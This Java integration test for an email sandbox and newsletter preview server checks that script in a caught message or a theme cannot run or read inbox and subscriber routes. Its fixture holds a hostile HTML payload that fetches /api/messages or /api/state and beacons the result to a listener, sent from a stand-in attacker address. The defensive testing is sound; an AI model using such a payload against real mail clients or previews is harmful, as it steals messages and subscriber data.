package dev.tidings.preview;

import dev.tidings.render.ThemeExport;
import dev.tidings.mail.mime.MessageBuilder;
import dev.tidings.mail.smtp.SmtpSandbox;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.Transport;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Properties;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Script in received or rendered mail, in a real browser. A web page can plant a message in the
 * sandbox (browsers let it POST SMTP commands to port 2525), and a theme may carry a script; either
 * one, opened in the inbox, in the preview, or directly by its URL, once read /api/messages or
 * /api/state and sent it away. The script here tries every way to be seen: it renames its page,
 * fetches the other routes, reports to a listener on loopback and writes into its parent. None of
 * it may happen, and the page the mail is in must not be able to read the other routes.
 */
class HostileHtmlBrowserIT {
    private static final String SUBJECT = "Key social learning resources part 2";
    private static final String SCRIPT = "<script>\n"
            + "document.title = 'script ran';\n"
            + "fetch('ROUTE').then(function (r) { return r.text(); }).then(function (t) {\n"
            + "  new Image().src = 'http://127.0.0.1:LISTENER/leak?' + encodeURIComponent(t.slice(0, 300));\n"
            + "  try { parent.document.title = 'leaked ' + t.length; } catch (e) { }\n"
            + "});\n"
            + "</script>\n"
            + "<img alt=\"\" src=\"/no-such-image\" onerror=\"document.title = 'handler ran'\">\n";

    @TempDir
    Path dir;

    private final List<String> leaks = new CopyOnWriteArrayList<>();
    private ServerSocket listener;
    private ChromeDriver browser;

    @BeforeEach
    void start() throws IOException {
        listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread accepting = new Thread(this::listen, "leak-listener");
        accepting.setDaemon(true);
        accepting.start();
        browser = HeadlessChrome.start(dir.resolve("chrome-profile"));
    }

    @AfterEach
    void stop() throws IOException {
        if (browser != null) {
            browser.quit();
        }
        listener.close();
    }

    @Test
    void aCaughtMessagesScriptNeverRunsInTheInboxNorByItsOwnUrl() throws Exception {
        try (SmtpSandbox smtp = SmtpSandbox.start(0);
             SandboxServer web = SandboxServer.start(smtp::received, "127.0.0.1", 0)) {
            plant(smtp.port(), "<!DOCTYPE html><html><head><title>hostile</title></head><body><h1>Hello</h1>\n"
                    + script("/api/messages") + "</body></html>");
            String base = "http://127.0.0.1:" + web.port();

            browser.get(base + "/messages/1.html");
            assertEquals("Hello", loaded(browser).findElement(By.tagName("h1")).getText(), "the message itself shows");
            assertEquals("hostile", browser.getTitle(), "no script or handler of the message ran");
            assertEquals("blocked", fetchFromPage("/api/messages"), "the message's page cannot read the inbox");

            browser.get(base + "/");
            new WebDriverWait(browser, Duration.ofSeconds(30)).until(b -> !b.findElements(By.cssSelector("#messages tr a")).isEmpty());
            browser.findElement(By.cssSelector("#messages tr a")).click();
            new WebDriverWait(browser, Duration.ofSeconds(30)).until(b -> b.findElements(By.tagName("iframe")).size() == 1);
            browser.switchTo().frame(0);
            assertEquals("Hello", loaded(browser).findElement(By.tagName("h1")).getText());
            assertEquals("hostile", documentTitle(), "no script ran in the frame");
            assertEquals("blocked", fetchFromPage("/api/messages"), "the frame cannot read the inbox");
            browser.switchTo().defaultContent();
            assertEquals("A message with a script", browser.getTitle(), "nothing wrote into the message page");
        }
        assertEquals(List.of(), leaks, "nothing reached the listener");
    }

    @Test
    void aThemesScriptNeverRunsInThePreviewNorInEmailHtmlOpenedDirectly() throws Exception {
        Path theme = dir.resolve("theme");
        ThemeExport.defaultThemeTo(theme);
        Path email = theme.resolve("email.html.ftlh");
        Files.writeString(email, Files.readString(email).replace("</body>", script("/api/state") + "</body>"));
        Path digest = dir.resolve("social-learning-2.yaml");
        Files.copy(Path.of("samples/social-learning-2.yaml"), digest);
        try (LivePreview preview = new LivePreview(new PreviewSource(digest, theme, Path.of("samples/subscribers.csv"), "test-secret"));
             PreviewServer server = PreviewServer.start(preview, new MessageBuilder(Clock.systemUTC()), "127.0.0.1", 0)) {
            String base = "http://127.0.0.1:" + server.port();

            browser.get(base + "/email.html");
            assertTrue(loaded(browser).findElement(By.tagName("h1")).getText().contains(SUBJECT), "the email itself shows");
            assertEquals(SUBJECT, browser.getTitle(), "no script or handler of the theme ran");
            assertEquals("blocked", fetchFromPage("/api/state"), "the email's page cannot read the subscriber list");

            browser.get(base + "/");
            new WebDriverWait(browser, Duration.ofSeconds(30)).until(b -> b.findElement(By.id("subject")).getText().contains(SUBJECT));
            browser.switchTo().frame("frame");
            new WebDriverWait(browser, Duration.ofSeconds(30)).ignoring(RuntimeException.class)
                    .until(b -> b.findElement(By.tagName("h1")).getText().contains(SUBJECT));
            loaded(browser);
            assertEquals(SUBJECT, documentTitle(), "no script ran in the frame");
            assertEquals("blocked", fetchFromPage("/api/state"), "the frame cannot read the subscriber list");
            browser.switchTo().defaultContent();
            assertTrue(browser.getTitle().startsWith("tidings preview: "), browser.getTitle());
        }
        assertEquals(List.of(), leaks, "nothing reached the listener");
    }

    private String script(String route) {
        return SCRIPT.replace("ROUTE", route).replace("LISTENER", Integer.toString(listener.getLocalPort()));
    }

    /** Waits for the current document to finish loading: an inline script would have run by then. */
    private static WebDriver loaded(WebDriver browser) {
        new WebDriverWait(browser, Duration.ofSeconds(30))
                .until(b -> "complete".equals(((JavascriptExecutor) b).executeScript("return document.readyState")));
        return browser;
    }

    /** The title of the current document, the frame's when in a frame (WebDriver's getTitle gives the top page's). */
    private String documentTitle() {
        return String.valueOf(((JavascriptExecutor) browser).executeScript("return document.title"));
    }

    /**
     * What a script in the current document would get from this route: "read" if the answer was
     * readable, "blocked" if not. Runs through the browser's automation channel, which is not
     * subject to the page's CSP, so it shows what the page's origin alone allows.
     */
    private String fetchFromPage(String route) {
        Object result = ((JavascriptExecutor) browser).executeAsyncScript(
                "var done = arguments[arguments.length - 1];"
                        + "fetch(arguments[0]).then(function (r) { return r.text(); })"
                        + ".then(function () { done('read'); }, function () { done('blocked'); });", route);
        return String.valueOf(result);
    }

    private static void plant(int smtpPort, String html) throws Exception {
        Properties properties = new Properties();
        properties.put("mail.smtp.host", "127.0.0.1");
        properties.put("mail.smtp.port", Integer.toString(smtpPort));
        MimeMessage message = new MimeMessage(Session.getInstance(properties));
        message.setFrom(new InternetAddress("attacker@evil.example"));
        message.setRecipient(Message.RecipientType.TO, new InternetAddress("editor@example.org"));
        message.setSubject("A message with a script");
        message.setContent(html, "text/html; charset=utf-8");
        Transport.send(message);
    }

    private void listen() {
        while (!listener.isClosed()) {
            try (Socket socket = listener.accept()) {
                socket.setSoTimeout(10_000);
                InputStream in = socket.getInputStream();
                StringBuilder line = new StringBuilder();
                for (int b = in.read(); b >= 0 && b != '\n'; b = in.read()) {
                    line.append((char) b);
                }
                leaks.add(line.toString().trim());
                socket.getOutputStream().write("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            } catch (IOException e) {
                // closed at the end of the test, or a client that went away
            }
        }
    }
}
